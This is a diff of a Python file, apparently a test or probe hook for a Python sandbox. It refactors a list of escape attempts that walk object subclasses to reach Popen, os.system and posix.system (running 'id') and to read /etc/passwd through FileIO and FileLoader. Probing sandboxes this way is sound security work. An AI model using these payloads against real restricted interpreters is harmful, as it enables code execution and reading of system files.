@@ -11,13 +11,17 @@ def walk(kind, seen=None):
     return seen
 
 
+def named(name):
+    return [c for c in walk(object) if c.__name__ == name][0]
+
+
 def on_begin(ctx):
     attempts = [
         lambda: [c for c in object.__subclasses__() if c.__name__ == 'Popen'][0]('id'),
-        lambda: [c for c in object.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('id'),
+        lambda: named('_wrap_close').__init__.__globals__['system']('id'),
         lambda: [c for c in walk(object) if c.__name__ == 'FileIO'][0]('/etc/passwd'),
         lambda: [c for c in walk(object) if c.__name__ == 'BuiltinImporter'][0].load_module('posix').system('id'),
-        lambda: [c for c in walk(object) if c.__name__ in ('SourceFileLoader', 'FileLoader')][0]('x', '/etc/passwd').get_data('/etc/passwd'),
+        lambda: named('FileLoader')('x', '/etc/passwd').get_data('/etc/passwd'),
         lambda: ().__class__.__bases__[0].__subclasses__()[0].__init__.__globals__['os'].system('id'),
     ]
     for number, attempt in enumerate(attempts):
